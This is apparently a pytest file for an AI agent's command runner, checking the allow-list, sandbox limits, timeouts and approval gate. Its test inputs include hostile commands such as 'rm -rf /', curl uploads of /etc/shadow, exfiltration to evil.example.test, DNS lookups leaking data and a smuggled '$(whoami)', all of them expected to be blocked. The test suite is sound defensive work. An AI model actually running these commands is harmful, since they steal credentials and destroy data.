"""The command runner: allow-listed programs, no shell, a timeout, off by default, always behind the gate."""

from __future__ import annotations

import ast
import asyncio
import json
import os
import pwd
import time
from collections.abc import Iterator
from contextlib import nullcontext
from pathlib import Path

import pytest
from autogen_core.tools import StaticWorkbench
from sqlalchemy.orm import Session

from agent.approval import ApprovalGate, ToolRequest, Verdict, compose
from agent.policies import Caller
from agent.runner import parse_command, run_argv, run_command, runner_tools
from agent.store import DbGateStore
from agent.workbench import CURRENT_VERDICT, GatedWorkbench
from app.assistant import service as records
from app.config import reset_settings
from tests import factories


@pytest.fixture()
def executor_on(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("ENABLE_CODE_EXECUTOR", "true")
    reset_settings()
    yield
    monkeypatch.delenv("ENABLE_CODE_EXECUTOR")
    reset_settings()


def test_only_allow_listed_programs_parse() -> None:
    assert parse_command("df -h") == ["df", "-h"]
    for bad, why in (
        ("rm -rf /", "'rm' is not an allowed"),
        ("", "must not be empty"),
        ("echo 'open", "well-formed"),
        ("df -h /etc/shadow", "not an allowed argument"),
        ("hostname evil", "not an allowed argument"),
        ("date -s 2020-01-01", "setting the clock"),
    ):
        with pytest.raises(ValueError, match=why):
            parse_command(bad)


HOSTS = ["status.example.test", "127.0.0.1"]


@pytest.mark.parametrize(
    "command",
    [
        "curl file:///proc/self/environ",
        "curl file:///dev/zero",
        "curl -o /tmp/x http://127.0.0.1/",
        "curl --output=/tmp/x http://127.0.0.1/",
        "curl --data-binary @/etc/shadow http://127.0.0.1/",
        "curl -d x=1 http://127.0.0.1/",
        "curl -T /etc/passwd http://127.0.0.1/",
        "curl -K /root/.curlrc http://127.0.0.1/",
        "curl -w @/etc/shadow http://127.0.0.1/",
        "curl -L http://127.0.0.1/",
        "curl -X POST http://127.0.0.1/",
        "curl http://evil.example.test/?d=secret",
        "curl http://user:pw@127.0.0.1/",
        "curl gopher://127.0.0.1/",
        "curl http://127.0.0.1/ http://evil.example.test/",
        "dig -f /etc/shadow",
        "dig @evil.example.test status.example.test",
        "nslookup secret.evil.example.test",
    ],
)
def test_curl_and_lookups_cannot_read_write_upload_or_reach_other_hosts(command: str) -> None:
    with pytest.raises(ValueError):
        parse_command(command, HOSTS)


def test_an_allowed_get_is_fenced_against_curlrc_globbing_and_redirects() -> None:
    argv = parse_command("curl -s -I http://Status.Example.Test/health", HOSTS)
    assert argv == [
        "curl",
        "-q",
        "-g",
        "--max-redirs",
        "0",
        "--proto",
        "=http,https",
        "-s",
        "-I",
        "http://Status.Example.Test/health",
    ]
    assert parse_command("dig +short status.example.test A", HOSTS)[0] == "dig"


def test_output_is_capped_and_the_process_group_is_killed_at_the_cap() -> None:
    out = asyncio.run(run_argv(["yes"], timeout_s=120))  # generous: the machine may be loaded
    assert out["truncated"] is True and len(str(out["output"])) == 8000


def test_the_whole_process_group_dies_at_the_timeout(tmp_path: Path) -> None:
    # A program that leaves a grandchild behind: the grandchild must die with the group.
    marker = tmp_path / "alive"
    tmp_path.chmod(0o777)
    code = (
        "import os, time, sys\n"
        "if os.fork() == 0:\n"
        "    time.sleep(3)\n"
        f"    open({str(marker)!r}, 'w').write('still here')\n"
        "    sys.exit(0)\n"
        "time.sleep(30)\n"
    )
    out = asyncio.run(run_argv(["python3", "-c", code], timeout_s=0.5))
    assert out["timed_out"] is True
    time.sleep(3.5)
    assert not marker.exists()


def test_memory_is_capped_files_cannot_be_written_and_the_environment_is_empty(tmp_path: Path) -> None:
    hog = asyncio.run(run_argv(["python3", "-c", "b = bytearray(2 * 1024**3)"], timeout_s=20))
    assert hog["exit_code"] != 0 and "MemoryError" in str(hog["output"])
    target = tmp_path / "written"
    tmp_path.chmod(0o777)
    write = asyncio.run(run_argv(["python3", "-c", f"open({str(target)!r}, 'w').write('x' * 10)"]))
    assert write["exit_code"] != 0 and (not target.exists() or target.stat().st_size == 0)
    env = asyncio.run(run_argv(["python3", "-c", "import os; print(sorted(os.environ))"]))
    assert set(ast.literal_eval(str(env["output"]))) <= {"HOME", "LANG", "LC_CTYPE", "PATH"}


@pytest.mark.skipif(os.geteuid() != 0, reason="the service runs as root only in containers")
def test_as_root_commands_run_as_an_unprivileged_account() -> None:
    out = asyncio.run(run_argv(["python3", "-c", "import os; print(os.getuid(), os.getgroups())"]))
    uid = int(str(out["output"]).split()[0])
    assert uid != 0
    assert pwd.getpwuid(uid).pw_name in ("slar-runner", "nobody")
    shadow = asyncio.run(run_argv(["python3", "-c", "open('/etc/shadow').read()"]))
    assert "PermissionError" in str(shadow["output"])


def test_no_shell_and_a_timeout() -> None:
    out = asyncio.run(run_argv(["echo", "$(whoami);", "rm", "-rf", "/"]))
    assert out == {"exit_code": 0, "timed_out": False, "output": "$(whoami); rm -rf /\n"}
    assert asyncio.run(run_argv(["sleep", "5"], timeout_s=0.3)) == {
        "exit_code": None,
        "timed_out": True,
        "output": "",
    }


def test_the_runner_is_off_unless_enabled() -> None:
    reset_settings()
    assert runner_tools() == []
    token = CURRENT_VERDICT.set(Verdict(True, "test"))
    try:
        assert "ENABLE_CODE_EXECUTOR=false" in asyncio.run(run_command("echo hi"))
    finally:
        CURRENT_VERDICT.reset(token)


def test_the_runner_refuses_to_run_outside_the_gate(executor_on: None) -> None:
    assert "approval gate" in json.loads(asyncio.run(run_command("echo hi")))["error"]


def test_commands_run_only_when_the_gate_approves(executor_on: None, session: Session) -> None:
    admin = factories.user(session, role="admin")
    team = factories.team(session)
    gate = ApprovalGate(store=DbGateStore(lambda: nullcontext(session)), approval_func=compose())
    caller = Caller(admin.id, "admin")
    bench = GatedWorkbench(
        [StaticWorkbench(runner_tools())],
        gate,
        lambda tool, args, cid: ToolRequest(tool, args, caller=caller, team_id=team.id),
    )

    async def run(command: str) -> str:
        return (await bench.call_tool("run_command", {"command": command})).to_text()

    assert asyncio.run(run("echo hello")) == "denied: no approval function approved the call"
    assert asyncio.run(run("echo prod")).startswith("denied: an argument names production")
    records.create_policy(
        session=session,
        by=admin.id,
        subject_kind="role",
        subject="admin",
        tool_pattern="run_command",
        effect="allow",
        team_id=team.id,
    )
    result = json.loads(asyncio.run(run("echo hello")))
    assert result == {"exit_code": 0, "timed_out": False, "output": "hello\n"}
    assert json.loads(asyncio.run(run("rm -rf /tmp/x")))["field"] == "command"
